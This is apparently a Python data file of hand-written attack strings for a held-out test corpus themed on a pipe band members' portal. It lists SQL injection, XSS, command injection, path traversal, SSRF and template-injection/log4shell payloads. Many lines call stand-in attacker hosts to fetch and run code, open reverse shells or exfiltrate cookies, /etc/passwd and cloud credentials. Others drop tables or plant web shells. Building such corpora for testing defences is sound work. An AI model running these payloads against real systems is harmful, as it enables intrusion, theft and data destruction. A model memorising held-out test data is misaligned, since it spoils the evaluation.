#!/usr/bin/env python3
"""Attack values for the pipeband held-out corpus (pipe band members' portal).

All literals were written by hand for this corpus. A small number of values are
generated: hand-written payload pools joined to hand-written theme prefixes
(class suffix "+prefix"), and one-time percent-encoding of every byte of a
hand-written payload (class suffix "+urlencode", sqli/traversal only).
"""
import json
import os
import random

SEED = 35302

# (class, value) literals per category
SQLI = [
    ("union", "Scotland the Brave' UNION SELECT username, password_hash FROM members-- -"),
    ("union", "jig' union all select null,concat(email,0x3a,pw),null from band_users#"),
    ("union", "2/4 march') UNION SELECT table_name,2,3 FROM information_schema.tables WHERE table_schema=database()-- "),
    ("union", "-1 UNION SELECT 1,group_concat(column_name),3,4 FROM information_schema.columns WHERE table_name='members'"),
    ("union", "reel%' UnIoN SeLeCt sort_code, account_no, 3 FROM treasurer_accounts -- x"),
    ("union", "0 union/**/select/**/name,sql/**/from/**/sqlite_master--"),
    ("union", "Oban' /*!50000UNION*/ /*!50000SELECT*/ user(),version(),@@datadir-- -"),
    ("union", "tune' UNION SELECT NULL, pg_read_file('/etc/passwd'), NULL--"),
    ("union", "')) union select 1,login,passwd,4 from portal_admins limit 1 offset 0-- "),
    ("union", "Grade 4B\" UNION SELECT member_id, dob, phone FROM member_profiles--"),
    ("boolean", "Lochanside' AND 1=1-- "),
    ("boolean", "Lochanside' AND 'pb'='pb"),
    ("boolean", "hornpipe' OR 'x'='x'-- "),
    ("boolean", "pipemajor'-- "),
    ("boolean", "PM@band' OR 1=1 LIMIT 1-- -"),
    ("boolean", "x' or 2>1 #"),
    ("boolean", "37 OR 1=1"),
    ("boolean", "' OR ASCII(SUBSTRING((SELECT password FROM members WHERE role='admin'),1,1))>77-- "),
    ("boolean", "kilt' AND (SELECT COUNT(*) FROM uniform_orders)>0 AND 'a'='a"),
    ("boolean", "Rowan Tree') AND substr((select sqlite_version()),1,1)='3'--"),
    ("boolean", "1' and length(database())=8 -- "),
    ("boolean", "Dark Island' || '1'='1"),
    ("boolean", "reed' OR 'piper' LIKE 'pip%' --"),
    ("time-blind", "Forres'; SELECT pg_sleep(7)--"),
    ("time-blind", "Cowal' AND SLEEP(6)-- -"),
    ("time-blind", "1 AND (SELECT 9 FROM (SELECT(SLEEP(5)))q)"),
    ("time-blind", "jig'); WAITFOR DELAY '0:0:8'--"),
    ("time-blind", "x' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- "),
    ("time-blind", "Perth' || pg_sleep(10) || '"),
    ("time-blind", "1) AND BENCHMARK(9000000,SHA1('pipes'))-- "),
    ("time-blind", "air' AND 7=(SELECT 7 FROM PG_SLEEP(6))--"),
    ("time-blind", "1 and randomblob(300000000)--"),
    ("time-blind", "'; IF (SELECT COUNT(*) FROM sysusers)>0 WAITFOR DELAY '00:00:09'--"),
    ("time-blind", "tenor' AND 1=(CASE WHEN (1=1) THEN DBMS_PIPE.RECEIVE_MESSAGE('a',6) ELSE 1 END)--"),
    ("error-based", "Glendaruel' AND extractvalue(1,concat(0x7e,(select password from members limit 1)))-- "),
    ("error-based", "1' AND updatexml(null,concat(0x0a,user()),null)-- -"),
    ("error-based", "x' AND 1=CONVERT(int,(SELECT TOP 1 email FROM members))--"),
    ("error-based", "' and 1=cast((select string_agg(username,',') from members) as int)--"),
    ("error-based", "reed' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- "),
    ("error-based", "1 AND CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))=1"),
    ("error-based", "Oban') AND GTID_SUBSET(CONCAT(0x7171,(SELECT @@hostname)),1)-- "),
    ("stacked", "Cowal 2024'; DROP TABLE competition_entries;--"),
    ("stacked", "notes'); UPDATE members SET role='admin' WHERE email='sgt@attacker.example';--"),
    ("stacked", "1; INSERT INTO members(email,role) VALUES('x@attacker.example','committee')--"),
    ("stacked", "kilt'; EXEC xp_cmdshell 'certutil -urlcache -f http://attacker.example/s.exe s.exe';--"),
    ("stacked", "x'; COPY (SELECT '') TO PROGRAM 'curl 203.0.113.9/p|sh';--"),
    ("stacked", "tenor'; DELETE FROM practice_logs WHERE 1=1; --"),
    ("stacked", "'; ALTER USER postgres WITH PASSWORD 'pipes123';--"),
    ("stacked", "1; SELECT load_extension('/tmp/evil.so')--"),
    ("order-by", "name ASC, (SELECT CASE WHEN (SELECT substr(pw,1,1) FROM members LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
    ("order-by", "title,(select 1 from dual where sleep(5))"),
    ("order-by", "date DESC; DROP TABLE tune_sets"),
    ("order-by", "1,IF((SELECT user())LIKE'root%',grade,title)"),
    ("order-by", "(CASE WHEN (SELECT COUNT(*) FROM members)>50 THEN title ELSE composer END)"),
    ("comment-evasion", "jig'/**/OR/**/1/**/=/**/1#"),
    ("comment-evasion", "Oban'/*x*/UNION/*y*/SELECT/*z*/pw,2/*q*/FROM/**/members--"),
    ("comment-evasion", "'||(SeLeCt/**/pAsSwOrD/**/fRoM/**/members/**/LiMiT/**/1)||'"),
    ("comment-evasion", "march'%0aUNION%0aSELECT%0aemail,2%0aFROM%0amembers--"),
    ("comment-evasion", "1'\tOR\t'1'\t=\t'1"),
    ("comment-evasion", "reel'\nunion\nselect\nnull,password\nfrom\nmembers--"),
    ("double-urlencode", "jig%2527%2520OR%25201%253D1--%2520"),
    ("unicode", "Strathspey＇ ＵＮＩＯＮ ＳＥＬＥＣＴ password FROM members--"),
    ("unicode", "air\u02bc OR 1=1-- "),
    ("unicode", "%u0027%u0020or%u00201=1--"),
    ("hex-literal", "x' UNION SELECT 0x3c3f706870206576616c28245f4745545b635d293b203f3e,2 INTO OUTFILE '/var/www/html/tunes/x.php'-- "),
    ("hex-literal", "1 AND user=CHAR(97,100,109,105,110)"),
    ("second-order", "Calum O'Hara'), ('evil', (SELECT password FROM members WHERE id=1))-- "),
    ("second-order", "Mhairi'-- tune_set_owner"),
    ("out-of-band", "x'; SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pw FROM members LIMIT 1),'.attacker.example\\\\a'))-- "),
    ("out-of-band", "'; exec master..xp_dirtree '//sqli.attacker.example/share';--"),
    ("out-of-band", "1 UNION SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual--"),
    ("json-sqli", "Grade 3' AND JSON_EXTRACT('{\"a\":1}', '$.a')=1 UNION SELECT token,2 FROM sessions-- "),
]
SQLI_PREFIX = [
    "search: ", "tune title: ", "notes for Oban: ", "member surname: ",
]
SQLI_POOL = [
    "' OR 3=3-- ",
    "' UNION SELECT email, pw FROM members--",
    "'; SELECT pg_sleep(5)--",
    "') OR ('a'='a",
]
SQLI_URLENC = [
    "' OR 1=1-- ",
    "x' UNION SELECT password,2 FROM members#",
    "1; DROP TABLE uniform_orders--",
    "Oban' AND SLEEP(5)-- -",
]

XSS = [
    ("script-tag", "Great set! <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "Lochanside<script src=https://attacker.example/k.js></script>"),
    ("script-tag", "<ScRiPt>new Image().src='http://203.0.113.4/?s='+localStorage.token</sCrIpT>"),
    ("script-tag", "</textarea><script>alert(document.domain)</script>"),
    ("script-tag", "\"><script>location='https://attacker.example/?'+btoa(document.cookie)</script>"),
    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("script-tag", "<script/x>top['al'+'ert'](1)</script>"),
    ("script-tag", "</title><script>document.forms[0].action='//attacker.example/login'</script>"),
    ("event-handler", "Photo: <img src=kilt.jpg onerror=alert(1)>"),
    ("event-handler", "Uniform photo: <img src=/nope.jpg onerror=\"fetch('https://attacker.example/'+document.cookie)\">"),
    ("event-handler", "<svg onload=alert`pipes`>"),
    ("event-handler", "<body onload=prompt(document.cookie)>"),
    ("event-handler", "<details open ontoggle=confirm(1)>drone notes</details>"),
    ("event-handler", "<input autofocus onfocus=alert(origin)>"),
    ("event-handler", "<video><source onerror=\"javascript:alert(2)\"></video>"),
    ("event-handler", "<marquee onstart=alert(1)>Cowal results</marquee>"),
    ("event-handler", "<div onmouseover=\"document.location='//attacker.example/?c='+document.cookie\">hover for tune list</div>"),
    ("event-handler", "<audio src=1 onerror=import('//attacker.example/m.js')>"),
    ("event-handler", "<iframe onload=alert(1) src=about:blank>"),
    ("event-handler", "<select autofocus onfocus=alert(3)>"),
    ("event-handler", "<textarea autofocus onfocusin=alert(4)>"),
    ("event-handler", "<object data=x onerror=alert(5)>"),
    ("event-handler", "<img/src/onerror=alert(6)>"),
    ("event-handler", "<svg><animate onbegin=alert(7) attributeName=x dur=1s>"),
    ("event-handler", "<x contenteditable onblur=alert(8)>click me</x>"),
    ("attr-breakout", "Dark Island\" onmouseover=\"alert(1)"),
    ("attr-breakout", "x' autofocus onfocus='alert(document.cookie)"),
    ("attr-breakout", "\" style=\"position:fixed;inset:0\" onclick=\"alert(1)\" x=\""),
    ("attr-breakout", "7 1/4\"><img src=x onerror=alert(9)>"),
    ("attr-breakout", "'><svg/onload=alert(10)>"),
    ("attr-breakout", "\"accesskey=\"x\"onclick=\"alert(11)\""),
    ("js-uri", "javascript:alert(document.cookie)//tune.pdf"),
    ("js-uri", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">sheet music pdf</a>"),
    ("js-uri", "JaVaScRiPt:alert(1)//https://pipes.example.org"),
    ("js-uri", "java\tscript:alert(12)"),
    ("js-uri", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(13)\">tunes</a>"),
    ("js-uri", "<iframe src=\"javascript:parent.alert(14)\"></iframe>"),
    ("js-uri", "[band photos](javascript:alert(15))"),
    ("js-uri", "<form action=javascript:alert(16)><button>Submit entry</button></form>"),
    ("js-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("js-uri", "<object data=\"data:text/html,<script>alert(17)</script>\"></object>"),
    ("js-uri", "<embed src=\"javascript:alert(18)\">"),
    ("js-string-breakout", "';alert(document.cookie);//"),
    ("js-string-breakout", "\";fetch('//attacker.example/?'+document.cookie);var a=\""),
    ("js-string-breakout", "</script><script>alert(19)</script>"),
    ("js-string-breakout", "\\';alert(20);//"),
    ("js-string-breakout", "${alert(21)}`;alert(22);`"),
    ("js-string-breakout", "-alert(23)-"),
    ("encoded", "&lt;script&gt;alert(24)&lt;/script&gt;"),
    ("encoded", "%3Cscript%3Ealert(25)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(26)%253E"),
    ("encoded", "\\u003cimg src=x onerror=alert(27)\\u003e"),
    ("encoded", "\\x3cscript\\x3ealert(28)\\x3c/script\\x3e"),
    ("encoded", "＜script＞alert(29)＜/script＞"),
    ("encoded", "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;30&#x29;>"),
    ("encoded", "<svg><script>&#97;lert(31)</script></svg>"),
    ("encoded", "%C0%BCscript%C0%BEalert(32)%C0%BC/script%C0%BE"),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(33) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(33)//>\\x3e"),
    ("polyglot", "'\"--></style></script><svg onload=alert(34)>"),
    ("dom-clobber", "<form id=config><input name=apiBase value=//attacker.example></form>"),
    ("dom-clobber", "<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror=alert(35)//\">"),
    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(36)>\">"),
    ("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(37)>"),
    ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(38)>\">"),
    ("css", "<style>@import url(//attacker.example/x.css);</style>"),
    ("css", "<div style=\"background:url(javascript:alert(39))\">kilt</div>"),
    ("css", "<style>input[name=csrf][value^=a]{background:url(https://attacker.example/a)}</style>"),
    ("markdown", "![reed photo](x\" onerror=\"alert(40))"),
    ("markdown", "[Tune list](javascript:fetch('//attacker.example/'+document.cookie))"),
    ("template-xss", "{{constructor.constructor('alert(41)')()}}"),
    ("template-xss", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(42)>"),
    ("svg", "<svg><a xlink:href=\"javascript:alert(43)\"><text x=20 y=20>drones</text></a></svg>"),
    ("svg", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(44)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/portal-login\">"),
    ("base-tag", "<base href=\"https://attacker.example/\">"),
]
XSS_PREFIX = [
    "Practice log: ", "Message to the band: ", "Reed note — ", "Committee AOB: ",
]
XSS_POOL = [
    "<img src=q onerror=alert(50)>",
    "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
    "<script>alert(51)</script>",
    "<iframe srcdoc='<script>parent.alert(52)</script>'>",
]

CMDI = [
    ("separator", "tune.bww; cat /etc/passwd"),
    ("separator", "medley_v3.pdf; rm -rf /var/www/uploads/*"),
    ("separator", "scotland.abc && curl -s https://attacker.example/x.sh | bash"),
    ("separator", "reel.mp3 || wget -qO- http://203.0.113.7/b | sh"),
    ("separator", "oban | nc 198.51.100.3 4444 -e /bin/sh"),
    ("separator", "jig.pdf & ping -n 10 127.0.0.1 &"),
    ("separator", "set1.abc;id;uname -a"),
    ("separator", "drums.wav\nwhoami"),
    ("separator", "drums.wav\r\nsleep 9"),
    ("separator", "x;bash -i >& /dev/tcp/203.0.113.22/9001 0>&1"),
    ("separator", "score.pdf; echo c3NoLXJzYSBBQUFB... >> ~/.ssh/authorized_keys"),
    ("separator", "tune.bww; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.8\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("separator", "air.abc; perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(53,inet_aton(\"203.0.113.5\")));open(STDIN,\">&S\");exec(\"/bin/sh\")'"),
    ("separator", "a.pdf | tee /var/www/html/s.php <<< '<?php system($_GET[0]);'"),
    ("separator", "1.mp3 ; crontab -l | { cat; echo '* * * * * curl attacker.example/c|sh'; } | crontab -"),
    ("separator", "Forres%3Bcat%20/etc/shadow"),
    ("separator", "list.csv%0Aid"),
    ("separator", "jig && chmod +s /bin/bash"),
    ("separator", "reel || nslookup `whoami`.attacker.example"),
    ("substitution", "$(curl http://attacker.example/$(hostname))"),
    ("substitution", "`id > /tmp/pb.txt`"),
    ("substitution", "Lochanside $(sleep 8)"),
    ("substitution", "tune-$(cat /etc/hostname).pdf"),
    ("substitution", "drone `wget -O /tmp/r attacker.example/r && sh /tmp/r`"),
    ("substitution", "$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')"),
    ("substitution", "$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)"),
    ("substitution", "photo.jpg\"$(busybox nc 198.51.100.44 8080 -e sh)\""),
    ("substitution", "$(</etc/passwd)"),
    ("substitution", "${IFS}$(id)"),
    ("ifs-evasion", "set.pdf;cat${IFS}/etc/passwd"),
    ("ifs-evasion", "x;{cat,/etc/passwd}"),
    ("ifs-evasion", "jig;cat$IFS$9/etc/shadow"),
    ("ifs-evasion", "a;c'a't /e't'c/pa\"ss\"wd"),
    ("ifs-evasion", "b;/???/c?t /???/p?ss??"),
    ("ifs-evasion", "c;w\\h\\o\\a\\m\\i"),
    ("ifs-evasion", "d;$'\\x69\\x64'"),
    ("ifs-evasion", "e;X=$'cat\\x20/etc/passwd'&&$X"),
    ("ifs-evasion", "f;a=ca;b=t;$a$b /etc/passwd"),
    ("ifs-evasion", "g;$(rev<<<'dwssap/cte/ tac')"),
    ("ifs-evasion", "h;/bin/ba?h -c 'id'"),
    ("ifs-evasion", "i;${PATH:0:1}etc${PATH:0:1}passwd"),
    ("ifs-evasion", "j;cu\\rl${IFS}attacker.example|s\\h"),
    ("argument-injection", "--output=/var/www/html/shell.php"),
    ("argument-injection", "-o ProxyCommand='sh -c \"curl attacker.example|sh\"' git@pipes"),
    ("argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument-injection", "tunes.zip -T -TT 'sh -c id'"),
    ("argument-injection", "-exec sh -c 'id' ;"),
    ("argument-injection", "--upload-pack='touch /tmp/pwned'"),
    ("argument-injection", "-F 'x=@/etc/passwd' https://attacker.example/up"),
    ("argument-injection", "--post-file=/etc/shadow http://203.0.113.50/"),
    ("windows", "set.pdf & type C:\\Windows\\win.ini"),
    ("windows", "reel.mp3 | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows", "x & certutil -urlcache -split -f http://203.0.113.8/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
    ("windows", "jig || cmd /c \"net user pb P@ss1 /add\""),
    ("windows", "oban & dir C:\\Users\\ /s"),
    ("windows", "tune ^& whoami"),
    ("windows", "a & powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("windows", "x | mshta http://attacker.example/h.hta"),
    ("windows", "y & rundll32 \\\\198.51.100.12\\share\\e.dll,Start"),
    ("blind", "cowal.jpg; sleep 12 #"),
    ("blind", "m.abc | ping -c 15 198.51.100.1"),
    ("blind", "r.abc;dig $(whoami).oob.attacker.example"),
    ("blind", "q.bww && curl -d @/etc/passwd attacker.example"),
    ("blind", "t.bww`sleep 6`"),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl \"attacker.example/i|sh)'\npop graphic-context"),
    ("ffmpeg", "file 'concat:/etc/passwd|subfile,,start,0,end,0,,:/dev/null'"),
    ("env-injection", "() { :; }; /bin/bash -c 'curl attacker.example/sh|sh'"),
    ("env-injection", "() { _; } >_[$($())] { id; }"),
    ("newline", "Oban\n/bin/sh -c 'nc 203.0.113.9 7777 -e sh'\n"),
    ("newline", "backup.tar%0a%0dwget%20http://attacker.example/m%20-O%20/tmp/m"),
    ("perl-open", "|/usr/bin/id|"),
]

TRAVERSAL = [
    ("dotdot", "../../../../../../etc/passwd"),
    ("dotdot", "tunes/../../../../../etc/shadow"),
    ("dotdot", "medley_v3.pdf/../../../../proc/self/environ"),
    ("dotdot", "../../../var/www/portal/.env"),
    ("dotdot", "../../config/database.yml"),
    ("dotdot", "../../../../root/.ssh/id_rsa"),
    ("dotdot", "sheet/../../../../../../home/pm/.bash_history"),
    ("dotdot", "..//..//..//..//etc//passwd"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "..././..././..././etc/hosts"),
    ("dotdot", "/var/www/uploads/reeds/../../../../etc/group"),
    ("dotdot", "../../../../proc/self/cmdline"),
    ("dotdot", "../../../../../var/log/nginx/access.log"),
    ("dotdot", "avatars/../../app/settings.py"),
    ("dotdot", "./../.././../.git/config"),
    ("windows", "..\\..\\..\\..\\windows\\win.ini"),
    ("windows", "tunes\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("windows", "..\\/..\\/..\\/boot.ini"),
    ("windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows", "\\\\?\\C:\\Users\\Administrator\\NTUSER.DAT"),
    ("windows", "..%5c..%5c..%5cwindows%5csystem.ini"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/app/.env"),
    ("double-urlencode", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("double-urlencode", "..%252f..%252f..%252fproc%252fself%252fenviron"),
    ("overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afshadow"),
    ("overlong-utf8", "%e0%80%ae%e0%80%ae%c0%af%e0%80%ae%e0%80%ae%c0%afetc/hosts"),
    ("overlong-utf8", "..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("unicode", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("unicode", "．．／．．／．．／etc／passwd"),
    ("unicode", "..\u2215..\u2215..\u2215etc\u2215passwd"),
    ("null-byte", "../../../../etc/passwd%00.pdf"),
    ("null-byte", "sheet_music/../../../etc/shadow\\u0000.bww"),
    ("absolute", "/etc/passwd"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "file:///etc/passwd"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/set.zip%23shell.php"),
    ("wrapper", "phar://uploads/avatars/pm.jpg/x.php"),
    ("wrapper", "jar:file:///opt/portal/app.war!/WEB-INF/web.xml"),
    ("wrapper", "expect://id"),
    ("java", "/WEB-INF/web.xml;.pdf"),
]
TRAVERSAL_URLENC = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "tunes/../../../../proc/self/environ",
    "../../../.env",
    "/var/www/uploads/../../../etc/shadow",
]

SSRF = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://169.254.169.254/latest/user-data"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials/"),
    ("loopback", "http://127.0.0.1:8080/admin/members/export.csv"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://[::1]:22/"),
    ("loopback", "http://0.0.0.0:5984/_all_dbs"),
    ("loopback", "https://localhost:2375/containers/json"),
    ("loopback", "http://127.1/portal/admin"),
    ("internal", "http://10.0.0.5/jenkins/script"),
    ("internal", "http://192.168.1.1/cgi-bin/luci"),
    ("internal", "http://172.16.0.10:8500/v1/kv/?recurse"),
    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal", "http://db.internal:5432/"),
    ("internal", "http://payroll.corp.local/api/users"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://017700000001:8080/"),
    ("alt-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/meta-data/"),
    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
    ("alt-ip", "http://[::ffff:127.0.0.1]:8080/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("parser-confusion", "http://attacker.example@127.0.0.1/admin"),
    ("parser-confusion", "http://127.0.0.1#@pipes.example.org/tunes.pdf"),
    ("parser-confusion", "http://pipes.example.org\\@169.254.169.254/latest/"),
    ("parser-confusion", "http://127.0.0.1:80\\@attacker.example/"),
    ("parser-confusion", "https://pipes.example.org.attacker.example/redirect?to=http://10.1.1.1/"),
    ("dns-rebind", "http://127.0.0.1.nip.io:8080/admin"),
    ("dns-rebind", "http://a9fea9fe.rbnd.attacker.example/latest/meta-data/"),
    ("redirect", "https://attacker.example/302?u=http://169.254.169.254/latest/meta-data/"),
    ("redirect", "https://203.0.113.15/r.php?target=http%3A%2F%2Flocalhost%3A8080%2Factuator%2Fenv"),
    ("scheme", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cpm%40attacker.example%3E"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://10.0.0.3/backup/members.sql"),
    ("scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("scheme", "tftp://198.51.100.6/x"),
    ("scheme", "netdoc:///etc/passwd"),
    ("embedded", "Tune PDF link: http://169.254.169.254/latest/meta-data/hostname"),
]

CODE = [
    ("ssti-jinja", "{{7*'7'}}{{config.items()}}"),
    ("ssti-jinja", "Dear {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('curl attacker.example') }}"),
    ("ssti-jinja", "Newsletter: {{ url_for.__globals__.current_app.config['SECRET_KEY'] }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.popen('wget -qO- 203.0.113.2|sh').read() }}"),
    ("ssti-twig", "{{_self.env.registerUndefinedFilterCallback('system')}}{{_self.env.getFilter('id')}}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|filter('system') }}"),
    ("ssti-twig", "{{ ['id',0]|sort('passthru') }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"sh\",\"-c\",\"id\"]).start()}"),
    ("ssti-velocity", "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$r"),
    ("ssti-velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('touch /tmp/pb')"),
    ("ssti-erb", "<%= `cat /etc/passwd` %>"),
    ("ssti-erb", "<%= system('curl attacker.example/e|sh') %>"),
    ("ssti-erb", "<%= File.read('/app/config/master.key') %>"),
    ("ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("ssti-smarty", "{system('cat /etc/passwd')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-mako", "<% import os; x=os.popen('whoami').read() %>${x}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-go", "{{ .Env.Getenv \"DB_PASSWORD\" }}{{ printf \"%s\" .Secret }}"),
    ("el-spring", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("el-spring", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-spring", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"),
    ("el-spring", "#{T(java.lang.System).getenv()}"),
    ("el-jsp", "${pageContext.request.getSession().setAttribute('role','admin')}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ognl", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('whoami').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X',#a))}"),
    ("mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/Exploit}"),
    ("log4shell", "Piper ${jndi:rmi://203.0.113.31/obj}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://198.51.100.2/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://x.attacker.example/q}"),
    ("log4shell", "${jndi:${lower:d}${lower:n}s://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fe%7D"),
